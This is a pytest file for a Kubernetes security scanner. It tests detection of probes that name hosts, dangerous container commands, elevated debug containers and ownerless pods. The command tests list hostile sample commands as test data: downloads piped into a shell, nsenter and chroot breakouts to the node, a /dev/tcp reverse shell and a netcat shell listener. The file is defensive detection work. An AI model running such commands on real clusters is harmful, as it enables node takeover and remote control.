"""Probes, commands, debug containers and bare pods are judged by what they do, and never by position."""

from __future__ import annotations

import pytest

from ksec_tui.findings.fix import Risk
from tests.checks.workloads.pods import (
    Tree,
    cluster,
    container,
    daemon_set,
    fix,
    fixed,
    judged,
    live,
    severity,
    spec_of,
    words,
)

PROBE, COMMAND = "wl-probe-host", "wl-exec-dangerous"
DEBUG, NAKED = "wl-ephemeral-elevated", "wl-naked-pod"


def probing(host: str, *, kind: str = "httpGet", key: str = "livenessProbe") -> Tree:
    probe: Tree = {key: {kind: {"host": host, "port": 8080}}}
    return container(**probe)


@pytest.mark.parametrize(
    ("probe", "expected"),
    [
        (probing("10.0.0.7"), "the liveness probe of container app connects to 10.0.0.7"),
        (probing("127.0.0.1"), "the liveness probe of container app connects to 127.0.0.1"),
        (
            probing("db", kind="tcpSocket", key="startupProbe"),
            "the startup probe of container app connects to db",
        ),
        (
            container(lifecycle={"preStop": {"httpGet": {"host": "x", "port": 1}}}),
            "the hook before its stop of container app connects to x",
        ),
        (probing(""), ""),
        (container(livenessProbe={"grpc": {"port": 9}}), ""),
        (container(livenessProbe={"exec": {"command": ["true"]}}), ""),
        (
            container(
                readinessProbe={"httpGet": {"port": 1, "httpHeaders": [{"name": "Host", "value": "x"}]}}
            ),
            "",
        ),
    ],
)
def test_a_probe_that_names_a_host_is_told(probe: Tree, expected: str) -> None:
    assert words(PROBE, daemon_set(probe)) == ([expected] if expected else [])


@pytest.mark.parametrize(
    ("host", "spec", "expected"),
    [
        ("127.0.0.1", {}, "medium"),
        ("127.0.0.1", {"hostNetwork": True}, "low"),
        ("localhost", {"hostNetwork": True}, "low"),
        ("::1", {"hostNetwork": True}, "low"),
        ("10.0.0.7", {"hostNetwork": True}, "medium"),
        ("10.0.0.9", {"hostNetwork": True}, "low"),
        ("10.0.0.9", {}, "medium"),
    ],
)
def test_in_the_nodes_network_a_pod_may_ask_its_own_node(host: str, spec: Tree, expected: str) -> None:
    owner = daemon_set(probing(host), **spec)
    pod = live(owner, status={"hostIP": "10.0.0.9", "podIP": "10.0.0.9"})
    assert severity(PROBE, owner, pod) == expected


def test_every_host_goes_from_every_probe_of_every_container() -> None:
    both = {**probing("a"), "lifecycle": {"postStart": {"tcpSocket": {"host": "b", "port": 1}}}}
    tree = daemon_set(both, initContainers=[{**probing("c"), "name": "mesh", "restartPolicy": "Always"}])
    left = spec_of(fixed(PROBE, tree), tree)
    assert left["containers"][0]["livenessProbe"] == {"httpGet": {"port": 8080}}
    assert left["containers"][0]["lifecycle"] == {"postStart": {"tcpSocket": {"port": 1}}}
    assert left["initContainers"][0]["livenessProbe"] == {"httpGet": {"port": 8080}}


@pytest.mark.parametrize(
    ("command", "does"),
    [
        (["sh", "-c", "curl -s https://x.example/i.sh | bash"], "pipes a download into a shell"),
        (["sh", "-c", "wget -qO- https://x.example/i.sh | sudo sh"], "pipes a download into a shell"),
        (["bash", "-c", "bash <(curl -s https://x.example)"], "pipes a download into a shell"),
        (["nsenter", "--target", "1", "--mount", "--", "bash"], "enters namespaces with nsenter"),
        (["/usr/bin/nsenter", "-t", "1"], "enters namespaces with nsenter"),
        (["sh", "-c", "sudo -E web"], "uses sudo"),
        (["sh", "-c", "chroot /host systemctl restart x"], "changes its root to the node's files"),
        (["bash", "-c", "exec bash -i >& /dev/tcp/203.0.113.9/443 0>&1"], "connects a shell to the network"),
        (["sh", "-c", "nc -lv -e /bin/sh 4444"], "serves a shell with netcat"),
        (["sh", "-c", "curl -s https://x.example/data.json | jq ."], ""),
        (["sh", "-c", "curl -fsS localhost:8080/healthz || exit 1"], ""),
        (["sh", "-c", "echo pseudo sh"], ""),
        (["sh", "-c", "curl x > f; cat f | shasum"], ""),
        (["chroot", "/var/empty", "web"], ""),
        (["nc", "-z", "db", "5432"], ""),
    ],
)
def test_a_command_is_told_by_what_it_does_and_never_shown(command: list[str], does: str) -> None:
    found = judged(COMMAND, cluster(daemon_set(container(command=command))))
    said = [piece.words for finding in found for piece in finding.evidence]
    assert does in " ".join(said)
    assert bool(said) is bool(does)
    assert "x.example" not in repr(found)


def test_commands_of_probes_and_hooks_count() -> None:
    check = {"exec": {"command": ["sh", "-c", "sudo pgrep web"]}}
    (finding,) = judged(COMMAND, cluster(daemon_set(container(readinessProbe=check))))
    assert finding.words == "the readiness probe of container app uses sudo"
    assert finding.evidence[0].path.endswith("/containers/0/readinessProbe/exec/command")


def debugged(spec: Tree | None = None, status: Tree | None = None, **own: object) -> list[Tree]:
    """A workload, one pod of which has a debug container."""
    owner = daemon_set(**(spec or {}))
    shell = container("shell", securityContext=own) if own else container("shell")
    return [owner, live(owner, ephemeralContainers=[shell], status=status)]


ENDED = {"ephemeralContainerStatuses": [{"name": "shell", "state": {"terminated": {"exitCode": 0}}}]}


@pytest.mark.parametrize(
    ("trees", "elevated"),
    [
        (debugged(privileged=True), "it runs privileged"),
        (debugged(capabilities={"add": ["SYS_PTRACE"]}), "it adds SYS_PTRACE"),
        (debugged(seccompProfile={"type": "Unconfined"}), "it runs without a seccomp filter"),
        (debugged(runAsUser=0), "it runs as root"),
        (
            debugged({"securityContext": {"runAsNonRoot": True}}, runAsNonRoot=False),
            "it may run as root in a pod that forbids it",
        ),
        (debugged(), ""),
        (debugged(runAsUser=1000), ""),
        (debugged(status=ENDED, privileged=True), ""),
        (debugged(status={"phase": "Succeeded"}, privileged=True), ""),
    ],
)
def test_a_debug_container_counts_while_it_runs_with_more_than_usual(
    trees: list[Tree], elevated: str
) -> None:
    start = "debug container shell (in the live pod) is still attached to pod web-x1"
    assert words(DEBUG, *trees) == ([f"{start}: {elevated}"] if elevated else [])


def test_a_debug_container_goes_with_its_pod() -> None:
    made = fix(DEBUG, cluster(*debugged(privileged=True)))
    assert made.risk is Risk.MANUAL
    assert "kubectl delete pod -n shop web-x1" in made.steps


def bare(name: str = "probe", **fields: object) -> Tree:
    meta = {"name": name, "namespace": "shop"}
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": meta,
        "spec": {"containers": [container()]},
        **fields,
    }


def test_only_a_pod_that_runs_without_an_owner_is_bare() -> None:
    owner = daemon_set()
    assert words(NAKED, bare()) == ["pod probe has no owner that would start it again"]
    assert words(NAKED, bare(status={"phase": "Succeeded"})) == []
    assert words(NAKED, owner, live(owner)) == []
    static = {"name": "etcd", "namespace": "kube-system", "annotations": {"kubernetes.io/config.mirror": "x"}}
    assert words(NAKED, bare(metadata=static)) == []
    orphan = live({**owner, "metadata": {"name": "gone", "namespace": "shop", "uid": "u"}})
    assert words(NAKED, orphan) == []
